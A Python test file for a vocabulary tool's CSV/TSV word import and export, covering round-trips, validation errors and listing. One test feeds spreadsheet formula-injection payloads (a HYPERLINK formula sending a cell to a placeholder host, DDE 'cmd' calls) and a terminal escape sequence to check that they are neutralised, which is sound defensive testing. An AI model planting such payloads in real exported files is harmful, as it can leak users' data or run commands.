"""`reader words list|export|import` and the CSV/TSV of saved words (reader.words.io)."""

import csv
import io
import re
from dataclasses import replace

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from reader.cli import main
from reader.cli.words import _list
from reader.store import DB_FILENAME, TranslationStore
from reader.words import STATUSES, SavedWord
from reader.text.lemmas import lemma_key
from reader.words.io import COLUMNS, WordFileError, read_words, write_words
from reader.words.selection import select_words

ALLIES = SavedWord(
    lemma="Verbündeter", word="Verbündeten", sentence='Die Verbündeten, "sagte er",\nder Ukraine\teilen.', span=(4, 15),
    translation="Ukraine's allies, he said, hurry.", aligned=((10, 16), (18, 20)), gloss="ally, \"friend\"",
    status="learning", document="/texte/nato.txt", sentence_index=3, created=1_764_690_000.25, updated=1_764_700_000.5,
)
HAUS = SavedWord(lemma="Haus", word="Häusern", sentence="In den Häusern brennt [bold]Licht[/bold].", span=(7, 14),
                 gloss="house", status="known", created=1_764_600_000.0, updated=1_764_800_000.0)
ARGER = SavedWord(lemma="Ärger", word="Ärger", sentence="Ärger gibt es.", span=(0, 5), created=1_764_650_000.0,
                  updated=1_764_650_000.0)


@pytest.fixture
def cache(tmp_path):
    with TranslationStore(tmp_path / DB_FILENAME) as s:
        s.import_words([ALLIES, HAUS, ARGER])
    return tmp_path


def reader(*args: str) -> int:
    return main(list(args))


def approx_times(w: SavedWord) -> tuple:
    # Times go through ISO 8601 to the microsecond.
    return (round(w.created, 6), round(w.updated, 6))


def same(a: SavedWord, b: SavedWord) -> bool:
    return replace(a, created=0, updated=0) == replace(b, created=0, updated=0) and approx_times(a) == approx_times(b)


# -- choosing and ordering --------------------------------------------------------------


def test_select_filters_by_status_and_search_and_sorts():
    words = [ALLIES, HAUS, ARGER]
    assert [w.lemma for w in select_words(words)] == ["Ärger", "Haus", "Verbündeter"]  # Ä beside A
    assert [w.lemma for w in select_words(words, sort="status")] == ["Ärger", "Verbündeter", "Haus"]
    assert [w.lemma for w in select_words(words, sort="created")] == ["Verbündeter", "Ärger", "Haus"]
    assert [w.lemma for w in select_words(words, sort="updated")] == ["Haus", "Verbündeter", "Ärger"]
    assert [w.lemma for w in select_words(words, ["known", "new"])] == ["Ärger", "Haus"]
    assert [w.lemma for w in select_words(words, search="ALLIES")] == ["Verbündeter"]  # the English sentence
    assert [w.lemma for w in select_words(words, search="hauser")] == ["Haus"]  # the form, umlaut folded
    assert [w.lemma for w in select_words(words, search="friend")] == ["Verbündeter"]  # the gloss
    assert select_words(words, search="nothing like it") == []


# -- CSV / TSV -----------------------------------------------------------------


def test_csv_round_trip_keeps_every_field():
    out = io.StringIO()
    assert write_words([ALLIES, HAUS, ARGER], out, "csv") == 3
    text = out.getvalue()
    assert text.splitlines()[0] == ",".join(COLUMNS)
    assert ",10-16;18-20," in text and ",4-15," in text and "2025-12-02T15:40:00.250000Z" in text
    back = read_words(text.encode(), "csv")
    assert len(back) == 3 and all(same(a, b) for a, b in zip(back, [ALLIES, HAUS, ARGER]))
    again = io.StringIO()
    write_words(back, again, "csv")
    assert again.getvalue() == text


def test_tsv_escapes_tab_and_line_break_and_reads_them_back():
    out = io.StringIO()
    write_words([ALLIES], out, "tsv")
    header, row = out.getvalue().splitlines()
    assert header.split("\t") == list(COLUMNS)
    fields = row.split("\t")
    assert len(fields) == len(COLUMNS)
    assert fields[COLUMNS.index("sentence")] == 'Die Verbündeten, "sagte er",\\nder Ukraine\\teilen.'
    (back,) = read_words(out.getvalue().encode(), "tsv")
    assert same(back, ALLIES)


def test_a_tsv_of_another_program_keeps_a_backslash_before_anything_but_an_escape():
    data = "word\tgloss\nHaus\tC:\\Texte\\ und a\\\\b, 1\\x41 \\x4\n".encode()
    (w,) = read_words(data, "tsv")
    assert w.gloss == "C:\\Texte\\ und a\\b, 1A \\x4"


_TEXT = st.text(st.characters(codec="utf-8"), max_size=12)
_STRIPPED = _TEXT.map(str.strip)  # the import strips lemma, word and gloss


@st.composite
def saved_words(draw, formula_starts: bool = False):
    """Any word the store can hold, every text field arbitrary (with formula-like starts when asked)."""
    start = st.sampled_from(["", "=", "'=", "''+", "-", "'-", "@", "'", "\t", "\r", "\n"]) if formula_starts else st.just("")
    text = st.builds(str.__add__, start, _TEXT)
    word = draw(st.builds(str.__add__, start, _STRIPPED).map(str.strip).filter(bool))
    before, after = draw(text), draw(text)
    translation = draw(text)
    aligned = ((0, len(translation)),) if translation and draw(st.booleans()) else ()
    micros = st.integers(min_value=0, max_value=4_000_000_000 * 10**6).map(lambda us: us / 10**6)
    created = draw(micros)
    return SavedWord(
        lemma=draw(st.builds(str.__add__, start, _STRIPPED).map(str.strip).filter(bool)), word=word,
        sentence=before + word + after, span=(len(before), len(before) + len(word)), translation=translation,
        aligned=aligned, gloss=draw(st.builds(str.__add__, start, _STRIPPED).map(str.strip)),
        status=draw(st.sampled_from(STATUSES)), document=draw(text),
        sentence_index=draw(st.integers(min_value=-1, max_value=10**6)), created=created,
        updated=created + draw(micros),
    )


@settings(max_examples=150, deadline=None)
@given(st.lists(saved_words(), min_size=1, max_size=3, unique_by=lambda w: w.key))
def test_tsv_export_then_import_gives_every_field_back(words):
    out = io.StringIO()
    write_words(words, out, "tsv")
    text = out.getvalue()
    assert len(text.splitlines()) == len(words) + 1  # a line is a row
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029]", text)  # nothing to drive a terminal
    back = read_words(text.encode(), "tsv")
    assert len(back) == len(words) and all(same(a, b) for a, b in zip(back, words))


def _no_nul(w: SavedWord) -> bool:
    """A CSV has no escape for NUL, and the import refuses NUL as binary data (a TSV escapes it)."""
    return not any("\x00" in v for v in (w.lemma, w.word, w.gloss, w.sentence, w.translation, w.document))


@settings(max_examples=150, deadline=None)
@given(st.lists(saved_words(formula_starts=True).filter(_no_nul), min_size=1, max_size=3,
                unique_by=lambda w: w.key))
def test_csv_export_then_import_gives_every_field_back_and_no_cell_starts_a_formula(words):
    out = io.StringIO()
    write_words(words, out, "csv")
    rows = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    for cell in (c for row in rows[1:] for c in row):
        assert not re.match("[=+@\t\r\n-]", cell) or re.fullmatch(r"[+-]?[0-9]+(\.[0-9]+)?", cell), cell
    back = read_words(out.getvalue().encode(), "csv")
    assert len(back) == len(words) and all(same(a, b) for a, b in zip(back, words))


def test_a_minimal_hand_made_csv_gets_defaults():
    (w,) = read_words("lemma,word,sentence,span\r\nHaus,Haus,Das Haus.,4-8\r\n".encode("utf-8-sig"))
    assert (w.lemma, w.status, w.gloss, w.aligned, w.sentence_index) == ("Haus", "new", "", (), -1)
    assert w.created == w.updated  # one "now" for both


def test_a_file_with_only_updated_is_never_created_after_it():
    (w,) = read_words(b"word,updated\nZug,2026-01-01T00:00:00Z\n")
    assert w.created == w.updated == 1_767_225_600.0


def test_a_plain_list_of_words_gets_simplemmas_lemmas_and_no_sentence():
    data = "word,status,gloss\nHäuser,known,house\nging,learning,\nHaus,,\n"
    words = read_words("lemma,status\nHäuser,known\n".encode())
    # The file's own lemma is kept.
    assert [(w.lemma, w.word, w.sentence, w.span) for w in words] == [("Häuser", "Häuser", "", (0, 0))]
    both = r"rows 2 and 4 are both the lemma 'Haus' \(of 'Häuser' and 'Haus'\); keep one"
    with pytest.raises(WordFileError, match=both):
        read_words(data.encode())
    words = read_words(data.encode()[: data.index("Haus,,")])
    assert [(w.lemma, w.word, w.status, w.gloss, w.sentence) for w in words] == [
        ("Haus", "Häuser", "known", "house", ""), ("gehen", "ging", "learning", "", "")]
    assert {w.key for w in words} == {lemma_key("Häuser"), lemma_key("ging")}  # what the reader looks up
    out = io.StringIO()
    write_words(words, out, "csv")
    assert ",known,,," in out.getvalue()  # no sentence, no span
    assert [(w.lemma, w.sentence, w.span) for w in read_words(out.getvalue().encode())] == [
        ("Haus", "", (0, 0)), ("gehen", "", (0, 0))]


def test_a_sentence_and_span_give_the_word_when_it_is_missing():
    (w,) = read_words("sentence,span\nIn den Häusern brennt Licht.,7-14\n".encode())
    assert (w.lemma, w.word, w.span) == ("Haus", "Häusern", (7, 14))


def test_a_plain_list_is_listed_with_a_dash_for_the_sentence(tmp_path, monkeypatch, capsys):
    import argparse

    plain = tmp_path / "known.csv"
    plain.write_text("word,status\nHäuser,known\n", encoding="utf-8")
    assert reader("words", "import", str(plain), "--cache-dir", str(tmp_path)) == 0
    with TranslationStore(tmp_path / DB_FILENAME) as s:
        assert s.word_statuses() == {"haus": "known"}
    monkeypatch.setenv("COLUMNS", "160")
    out = Terminal()
    assert _list(argparse.Namespace(cache_dir=tmp_path, status=None, search=None, sort="lemma"), out) == 0
    assert "—" in out.getvalue() and "Häuser" in out.getvalue()


@pytest.mark.parametrize(
    "data, message",
    [
        (b"lemma,word,sentence\nHaus,Haus,Das Haus.\n", "missing column span"),
        (b"gloss,status\nhouse,known\n", "missing column word (or lemma)"),
        (b"word,sentence,span\nHaus,,4-8\n", "row 2: span '4-8' but no sentence"),
        (b"lemma,word,status\n,,known\n", "row 2: no lemma and no word"),
        (b"lemma,word,sentence,span,glos\nHaus,Haus,Das Haus.,4-8,x\n", "unknown column 'glos'"),
        (b"lemma,word,sentence,span,status\nHaus,Haus,Das Haus.,4-8,forgotten\n", "row 2: unknown status 'forgotten'"),
        (b"lemma,word,sentence,span\nHaus,Haus,Das Haus.,4-12\n", "row 2: 4-12 is outside the sentence"),
        (b"lemma,word,sentence,span\nHaus,Haus,Das Haus.,0-3\n", "row 2: span 0-3 of the sentence is 'Das', not 'Haus'"),
        (b"lemma,word,sentence,span\nHaus,Haus,Das Haus.,vier\n", "span must be START-END"),
        (b"lemma,word,sentence,span,created\nHaus,Haus,Das Haus.,4-8,gestern\n", "created must be an ISO 8601 time"),
        (b"lemma,word,sentence,span,created\nHaus,Haus,Das Haus.,4-8,1e20\n", "row 2: created '1e20' is not a time"),
        (b"lemma,word,sentence,span,updated\nHaus,Haus,Das Haus.,4-8,-1e12\n", "row 2: updated '-1e12' is not a time"),
        (b"lemma,word,sentence,span,created\nHaus,Haus,Das Haus.,4-8,nan\n", "row 2: created 'nan' is not a time"),
        (b"lemma,word,sentence,span\nHaus,Haus,Das Haus.\n", "row 2 has 3 fields"),
        (b"lemma,word,sentence,span\nHaus,Haus,Das Haus.,4-8\nhaus,Haus,Ein Haus.,4-8\n", "rows 2 and 3 are both"),
        ("lemma,word,sentence,span\nHaus,Haus,Das Haus.,4-8\n".encode("cp1252") + b"\xe4", "not UTF-8 text"),
        (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "binary data"),
        (b"", "empty"),
        (b'lemma,word,sentence,span\nHaus,Haus,"Das Haus.,4-8\n', "not a valid CSV file"),
    ],
)
def test_bad_csv_is_one_line_naming_the_problem_and_imports_nothing(cache, tmp_path, capsys, data, message):
    bad = tmp_path / "bad.csv"
    bad.write_bytes(data)
    before = TranslationStore(cache / DB_FILENAME).saved_words()
    assert reader("words", "import", str(bad), "--cache-dir", str(cache)) == 2
    err = capsys.readouterr().err
    assert message in err and err.count("\n") == 1 and err.startswith("reader: error: ")
    assert TranslationStore(cache / DB_FILENAME).saved_words() == before


def test_a_bad_row_after_good_ones_imports_none_of_them(cache, tmp_path, capsys):
    bad = tmp_path / "words.csv"
    bad.write_text("lemma,word,sentence,span\nNeu,Neu,Neu ist es.,0-3\nAlt,Alt,Alt ist es.,0-9\n", encoding="utf-8")
    assert reader("words", "import", str(bad), "--cache-dir", str(cache)) == 2
    assert "row 3" in capsys.readouterr().err
    assert TranslationStore(cache / DB_FILENAME).get_word("Neu") is None


@pytest.mark.parametrize("where, message", [("missing.csv", "no such file"), ("adir", "is a directory")])
def test_import_of_a_missing_file_or_a_directory(tmp_path, capsys, where, message):
    (tmp_path / "adir").mkdir()
    assert reader("words", "import", str(tmp_path / where), "--cache-dir", str(tmp_path)) == 2
    err = capsys.readouterr().err
    assert message in err and err.count("\n") == 1


def test_export_then_import_into_another_store_round_trips_and_a_newer_word_is_kept(cache, tmp_path, capsys):
    csv_path = tmp_path / "words.csv"
    assert reader("words", "export", str(csv_path), "--cache-dir", str(cache)) == 0
    capsys.readouterr()
    other = tmp_path / "other"
    newer = SavedWord("Haus", "Haus", "Ein Haus.", (4, 8), gloss="home", status="new", created=1.0,
                      updated=HAUS.updated + 60)
    older = SavedWord("Ärger", "Ärger", "Viel Ärger.", (5, 10), gloss="trouble", updated=ARGER.updated - 60)
    with TranslationStore(other / DB_FILENAME) as s:
        s.import_words([newer, older])
    assert reader("words", "import", str(csv_path), "--cache-dir", str(other)) == 0
    err = capsys.readouterr().err
    assert err == f"reader: {csv_path}: imported 1 new, updated 1, kept 1 newer (use --replace to overwrite)\n"
    with TranslationStore(other / DB_FILENAME) as s:
        got = {w.key: w for w in s.saved_words()}
    assert set(got) == {"verbündeter", "haus", "ärger"}
    assert got["haus"] == newer  # changed after the export: kept
    assert same(got["verbündeter"], ALLIES) and same(got["ärger"], ARGER)
    assert reader("words", "import", str(csv_path), "--cache-dir", str(other), "--replace") == 0
    assert "imported 0 new, updated 1, 2 unchanged\n" in capsys.readouterr().err
    with TranslationStore(other / DB_FILENAME) as s:
        haus = s.get_word("Haus")
    assert (haus.status, haus.gloss, haus.sentence, haus.created) == ("known", "house", HAUS.sentence, 1.0)


def test_a_plain_list_updates_statuses_but_keeps_the_saved_sentence_and_gloss(cache, tmp_path, capsys):
    plain = tmp_path / "known.tsv"
    plain.write_text("word\tstatus\nHäuser\tnew\nÄrger\tnew\nZug\tknown\n", encoding="utf-8")
    assert reader("words", "import", str(plain), "--cache-dir", str(cache)) == 0
    assert "imported 1 new, updated 1, 1 unchanged\n" in capsys.readouterr().err
    with TranslationStore(cache / DB_FILENAME) as s:
        haus, zug = s.get_word("Haus"), s.get_word("Zug")
    assert (haus.status, haus.gloss, haus.word) == ("new", "house", "Häusern")
    assert (haus.sentence, haus.span) == (HAUS.sentence, HAUS.span)
    assert haus.created == HAUS.created and haus.updated > HAUS.updated
    assert (zug.status, zug.sentence) == ("known", "")


# -- list -------------------------------------------------------------------------------


def test_list_piped_is_tsv(cache, capsys):
    assert reader("words", "list", "--cache-dir", str(cache), "--status", "new", "--status", "known") == 0
    lines = capsys.readouterr().out.splitlines()
    assert lines[0].split("\t") == list(COLUMNS)
    assert [line.split("\t")[0] for line in lines[1:]] == ["Ärger", "Haus"]


class Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


def test_list_on_a_terminal_is_a_table_with_markup_literal(cache, monkeypatch):
    import argparse

    monkeypatch.setenv("COLUMNS", "160")
    out = Terminal()
    args = argparse.Namespace(cache_dir=cache, status=None, search="licht", sort="lemma")
    assert _list(args, out) == 0
    text = out.getvalue()
    assert "[bold]Licht[/bold]" in text and "known" in text and "1 saved word" in text and "Verbündeter" not in text


def test_list_of_an_empty_or_missing_store_says_so(tmp_path, capsys):
    assert reader("words", "list", "--cache-dir", str(tmp_path / "none")) == 0
    captured = capsys.readouterr()
    assert captured.out == "" and "no saved words" in captured.err and not (tmp_path / "none").exists()
    TranslationStore(tmp_path / DB_FILENAME).close()
    assert reader("words", "--cache-dir", str(tmp_path)) == 0  # no action: list
    assert "no saved words" in capsys.readouterr().err


def test_list_search_without_matches(cache, capsys):
    assert reader("words", "list", "--cache-dir", str(cache), "--search", "zzz") == 0
    assert "none of the 3 saved words" in capsys.readouterr().err


def test_a_time_out_of_range_already_in_a_store_is_shown_as_a_question_mark(tmp_path, capsys, monkeypatch):
    import argparse

    with TranslationStore(tmp_path / DB_FILENAME) as s:  # as an import before the check stored them
        s.import_words([SavedWord("Zug", "Zug", "Der Zug.", (4, 7), created=1e20, updated=-1e12)])
    assert reader("words", "list", "--cache-dir", str(tmp_path)) == 0
    (row,) = capsys.readouterr().out.splitlines()[1:]
    fields = dict(zip(COLUMNS, row.split("\t")))
    assert fields["created"] == fields["updated"] == ""  # a re-import reads them as now
    monkeypatch.setenv("COLUMNS", "160")
    out = Terminal()
    assert _list(argparse.Namespace(cache_dir=tmp_path, status=None, search=None, sort="created"), out) == 0
    assert " ? " in out.getvalue() and "Zug" in out.getvalue()


# -- export -----------------------------------------------------------------------------


def test_export_format_from_extension_or_option(cache, tmp_path, capsys):
    assert reader("words", "export", str(tmp_path / "w.txt"), "--cache-dir", str(cache)) == 2
    err = capsys.readouterr().err
    assert "cannot tell the format" in err and err.count("\n") == 1 and not (tmp_path / "w.txt").exists()
    assert reader("words", "export", str(tmp_path / "w.txt"), "-f", "tsv", "--cache-dir", str(cache)) == 0
    assert (tmp_path / "w.txt").read_text(encoding="utf-8").startswith("lemma\tword\t")
    assert reader("words", "export", str(tmp_path / "w.TSV"), "--status", "known", "--cache-dir", str(cache)) == 0
    assert len((tmp_path / "w.TSV").read_text(encoding="utf-8").splitlines()) == 2


def test_export_to_a_directory_says_so_and_a_failed_write_names_the_target(cache, tmp_path, capsys, monkeypatch):
    (tmp_path / "adir").mkdir()
    assert reader("words", "export", str(tmp_path / "adir"), "--cache-dir", str(cache)) == 2
    assert capsys.readouterr().err == f"reader: error: {tmp_path / 'adir'}: is a directory\n"
    from reader.output import atomic

    def no_room(path):
        raise OSError(28, "No space left on device", str(path))

    monkeypatch.setattr(atomic, "create_new_file", no_room)
    assert reader("words", "export", str(tmp_path / "w.csv"), "--cache-dir", str(cache)) == 1
    assert capsys.readouterr().err == f"reader: error: {tmp_path / 'w.csv'}: No space left on device\n"


def test_export_says_word_for_one(cache, tmp_path, capsys):
    assert reader("words", "export", str(tmp_path / "w.csv"), "--status", "known", "--cache-dir", str(cache)) == 0
    assert capsys.readouterr().err == f"reader: wrote 1 word to {tmp_path / 'w.csv'}\n"
    assert reader("words", "export", str(tmp_path / "w.apkg"), "--status", "known", "--cache-dir", str(cache)) == 0
    assert "wrote 2 notes (1 word) in the deck" in capsys.readouterr().err


def test_tsv_escapes_control_characters_and_csv_keeps_them(tmp_path):
    hostile = SavedWord("Zug", "Zug", "Der Zug.", (4, 7), gloss="a \x1b[31mtrain\x07", created=1.0, updated=1.0)
    tsv, csv_out = io.StringIO(), io.StringIO()
    write_words([hostile], tsv, "tsv")
    write_words([hostile], csv_out, "csv")
    assert "\x1b" not in tsv.getvalue() and "\x07" not in tsv.getvalue() and "a \\x1b[31mtrain\\x07" in tsv.getvalue()
    for out, fmt in ((tsv, "tsv"), (csv_out, "csv")):  # a file is data: it round-trips
        assert read_words(out.getvalue().encode(), fmt)[0].gloss == hostile.gloss


@pytest.mark.parametrize("gloss", ["=HYPERLINK(\"http://x.test/?\"&A1,\"ok\")", "+cmd|' /C calc'!A0", "-2+3+cmd|x!A0",
                                   "@SUM(1+1)*cmd|x!A0", "\t=1+1", "\r=1+1"])
def test_csv_export_neutralises_formula_cells_and_tsv_and_apkg_keep_them_raw(cache, tmp_path, capsys, gloss):
    with TranslationStore(cache / DB_FILENAME) as s:
        s.import_words([replace(HAUS, gloss=gloss)])
    for fmt in ("csv", "tsv", "apkg"):
        assert reader("words", "export", str(tmp_path / f"w.{fmt}"), "--status", "known", "--cache-dir", str(cache)) == 0
    (_, row) = list(csv.reader(open(tmp_path / "w.csv", encoding="utf-8", newline="")))
    assert row[COLUMNS.index("gloss")] == "'" + gloss
    assert read_words((tmp_path / "w.tsv").read_bytes(), "tsv")[0].gloss == gloss.strip()
    assert read_words((tmp_path / "w.csv").read_bytes(), "csv")[0].gloss == gloss.strip()
    capsys.readouterr()
    assert reader("words", "import", str(tmp_path / "w.csv"), "--cache-dir", str(cache)) == 0
    assert capsys.readouterr().err.endswith("imported 0 new, updated 0, 1 unchanged\n") or gloss != gloss.strip()


@pytest.mark.parametrize("fmt", ["tsv", "csv"])
def test_a_gloss_with_a_line_break_exported_and_imported_is_unchanged(cache, tmp_path, capsys, fmt):
    with TranslationStore(cache / DB_FILENAME) as s:
        s.import_words([replace(HAUS, gloss="house,\nhome\tand \\ back")])
    path = tmp_path / f"w.{fmt}"
    assert reader("words", "export", str(path), "--cache-dir", str(cache)) == 0
    capsys.readouterr()
    assert reader("words", "import", str(path), "--cache-dir", str(cache)) == 0
    assert capsys.readouterr().err == f"reader: {path}: imported 0 new, updated 0, 3 unchanged\n"


def test_export_of_nothing_is_an_error_and_writes_nothing(tmp_path, capsys):
    assert reader("words", "export", str(tmp_path / "d.apkg"), "--cache-dir", str(tmp_path)) == 1
    assert "nothing to export" in capsys.readouterr().err and not (tmp_path / "d.apkg").exists()


def test_export_into_a_missing_directory_is_one_line(cache, tmp_path, capsys):
    assert reader("words", "export", str(tmp_path / "no" / "d.csv"), "--cache-dir", str(cache)) == 2
    err = capsys.readouterr().err
    assert err == f"reader: error: cannot write {tmp_path / 'no' / 'd.csv'}: No such directory: {tmp_path / 'no'}\n"
